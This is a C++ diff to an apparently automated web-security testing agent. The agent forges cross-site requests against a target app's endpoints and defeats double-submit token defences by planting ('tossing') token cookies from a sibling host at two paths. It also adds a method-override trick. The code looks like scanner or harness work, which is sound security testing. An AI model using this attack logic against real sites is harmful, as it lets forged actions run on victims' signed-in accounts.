@@ -10,18 +10,26 @@
 namespace parapet::attack {
 namespace {
 
+constexpr std::size_t kLikeAToken = 6;  // what is shorter stands in many cookies by chance
+
 class CsrfSibling final : public Agent {
     void run(Target& target) override {
         OwnHost* sibling = sibling_host(target);
         if (sibling == nullptr) return;
         std::vector<Plan> plans;
-        for (Endpoint const* each : unsafe_endpoints(target)) {
-            OwnForm const own = look_at_form(target, *each, As::Attacker);
+        std::vector<Endpoint const*> const endpoints = unsafe_endpoints(target);
+        std::vector<OwnForm> const forms = look_at_forms(target, endpoints, As::Attacker);
+        for (std::size_t i = 0; i < endpoints.size(); ++i) {
+            Endpoint const* each = endpoints[i];
+            OwnForm const& own = forms[i];
             plans.push_back(plain(target, *each));
-            plans.push_back(plain_at(address_otherwise(target, *each), *each));
+            plans.push_back(plain_at(address_otherwise(target, *each), *each, "&"));
             if (!own.tokens.empty()) plans.push_back(with_empty(target, *each, own));
             for (http::QueryPair const& cookie : own.cookies)
-                if (!is_session(own, cookie)) plans.push_back(tossing(target, *each, own, cookie));
+                if (!is_session(own, cookie)) {
+                    plans.push_back(tossing(target, *each, own, cookie, path_of(target, *each)));
+                    plans.push_back(tossing(target, *each, own, cookie, "/"));
+                }
         }
         if (!victim_signs_in(target)) return;
         target.wait(std::chrono::minutes(3));
@@ -37,11 +45,11 @@ class CsrfSibling final : public Agent {
     };
 
     static Plan plain(Target const& target, Endpoint const& endpoint) {
-        return plain_at(address_of(target, endpoint), endpoint);
+        return plain_at(address_of(target, endpoint), endpoint, "?");
     }
 
-    static Plan plain_at(std::string action, Endpoint const& endpoint) {
-        if (endpoint.method != "POST") action += "?_method=" + endpoint.method;
+    static Plan plain_at(std::string action, Endpoint const& endpoint, std::string const& sign) {
+        if (endpoint.method != "POST") action += sign + "_method=" + endpoint.method;
         return {.form = {.action = std::move(action), .fields = wanted_fields(endpoint)}};
     }
 
@@ -56,20 +64,27 @@ class CsrfSibling final : public Agent {
     static bool is_session(OwnForm const& own, http::QueryPair const& cookie) {
         if (is_token_name(cookie.name)) return false;
         for (http::QueryPair const& token : own.tokens)
-            if (cookie.value.find(token.value) != std::string::npos) return false;
+            if (cookie.value == token.value ||
+                (token.value.size() >= kLikeAToken &&
+                 cookie.value.find(token.value) != std::string::npos))
+                return false;
         return true;
     }
 
-    // For the endpoint's own path, so that it comes before the app's (RFC 6265bis 5.8.3).
+    static std::string path_of(Target const& target, Endpoint const& endpoint) {
+        return address_of(target, endpoint).substr(app_origin(target).size());
+    }
+
+    // For the endpoint's own path it comes before the app's, and for "/" behind it, as the younger
+    // (RFC 6265bis 5.8.3): some servers take the first of a name and some the last.
     static Plan tossing(Target& target, Endpoint const& endpoint, OwnForm const& own,
-                        http::QueryPair const& cookie) {
+                        http::QueryPair const& cookie, std::string const& path) {
         Plan plan = plain(target, endpoint);
-        std::string const path = plan.form.action.substr(app_origin(target).size());
         for (http::QueryPair const& each : own.tokens) plan.form.fields.push_back(each);
         if (own.tokens.empty()) plan.form.fields.push_back(cookie);
-        plan.headers.append("set-cookie",
-                            cookie.name + "=" + cookie.value + "; Domain=" + target.surface().host +
-                                "; Path=" + path.substr(0, path.find('?')) + "; Secure");
+        plan.headers.append("set-cookie", cookie.name + "=" + cookie.value +
+                                              "; Domain=" + target.surface().host +
+                                              "; Path=" + path + "; Secure");
         return plan;
     }
 };
